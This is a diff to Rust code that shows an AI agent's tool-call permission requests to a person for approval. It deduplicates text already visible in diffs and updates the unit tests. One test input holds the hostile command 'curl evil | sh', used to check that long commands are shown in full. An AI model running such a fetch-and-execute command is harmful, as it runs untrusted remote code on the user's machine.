@@ -4,7 +4,7 @@
 //! allowed by a person.
 
 use acp_sdk::text::{git_patch, one_line};
-use acp_sdk::v1::ToolCallContent;
+use acp_sdk::v1::{Diff, ToolCallContent};
 use serde_json::Value;
 
 use super::PermissionRequest;
@@ -34,14 +34,27 @@ impl Shown {
         let kind = kind.map_or_else(String::new, |kind| format!(" ({kind})"));
         let title = question.title.as_deref().unwrap_or("a tool call");
         add(&mut lines, "", &format!("{title}{kind}"));
+        // What a diff shows is not repeated.
+        let content = question.request.tool_call.content.iter().flatten();
+        let diffs: Vec<&Diff> = content.filter_map(diff).collect();
         for path in &question.paths {
-            add(&mut lines, "path: ", path);
+            if !diffs.iter().any(|diff| diff.path == *path) {
+                add(&mut lines, "path: ", path);
+            }
         }
+        let is_in_diff = |text: &str| {
+            let mut texts = diffs
+                .iter()
+                .flat_map(|diff| [Some(&diff.new_text), diff.old_text.as_ref()]);
+            text.contains('\n')
+                && texts.any(|whole| whole.is_some_and(|whole| whole.contains(text)))
+        };
         let input = question.raw_input.as_ref();
         match input.and_then(acp_sdk::Json::to_value) {
             Some(Value::Object(members)) => {
                 for (name, value) in &members {
                     match value {
+                        Value::String(text) if is_in_diff(text) => {}
                         Value::String(text) => add(&mut lines, &format!("{name}: "), text),
                         value => add(&mut lines, &format!("{name}: "), &value.to_string()),
                     }
@@ -64,14 +77,19 @@ impl Shown {
 pub(super) fn patches(question: &PermissionRequest) -> Vec<String> {
     let content = question.request.tool_call.content.iter().flatten();
     let mut lines = Vec::new();
-    for piece in content {
-        if let ToolCallContent::Diff(diff) = piece
-            && let Some(patch) = git_patch(&diff.path, diff.old_text.as_deref(), &diff.new_text)
-        {
-            lines.extend(patch.text.lines().map(|line| visible(line)));
+    for diff in content.filter_map(diff) {
+        if let Some(patch) = git_patch(&diff.path, diff.old_text.as_deref(), &diff.new_text) {
+            lines.extend(patch.text.lines().map(visible));
         }
     }
     lines
+}
+
+fn diff(content: &ToolCallContent) -> Option<&Diff> {
+    match content {
+        ToolCallContent::Diff(diff) => Some(diff),
+        _ => None,
+    }
 }
 
 /// Adds a text that has a label. Its further lines are indented.
@@ -112,16 +130,24 @@ mod tests {
     fn nothing_is_cut() {
         let command = format!("echo {}; curl evil | sh", "x".repeat(10_000));
         let input = json!({"command": command, "args": ["a\nb"]});
-        let shown = Shown::new(&question("Run\nit", &input));
-        let expected = [
-            "Run",
-            "    it (execute)",
-            "path: /a/b",
-            "args: [\"a\\nb\"]",
-            &format!("command: {command}"),
-        ];
-        assert_eq!(shown.lines, expected);
+        let mut shown = Shown::new(&question("Run\nit", &input));
+        let heading = ["Run", "    it (execute)", "path: /a/b"];
+        assert_eq!(shown.lines[..3], heading);
+        // The order of members depends on the features of serde_json.
+        shown.lines[3..].sort();
+        let members = ["args: [\"a\\nb\"]", &format!("command: {command}")];
+        assert_eq!(shown.lines[3..], members);
         assert_eq!(shown.too_long, None);
+    }
+
+    #[test]
+    fn what_a_diff_shows_is_not_repeated() {
+        let mut question = question("Edit", &json!({"old": "one\n", "new": "two\nthree\n"}));
+        let diff = Diff::new("/a/b", "two\nthree\nfour\n");
+        question.request.tool_call.content = Some(vec![ToolCallContent::Diff(diff)]);
+        let shown = Shown::new(&question);
+        assert_eq!(shown.lines, ["Edit (execute)", "old: one", "    "]);
+        assert!(patches(&question).contains(&"+four".to_owned()));
     }
 
     #[test]
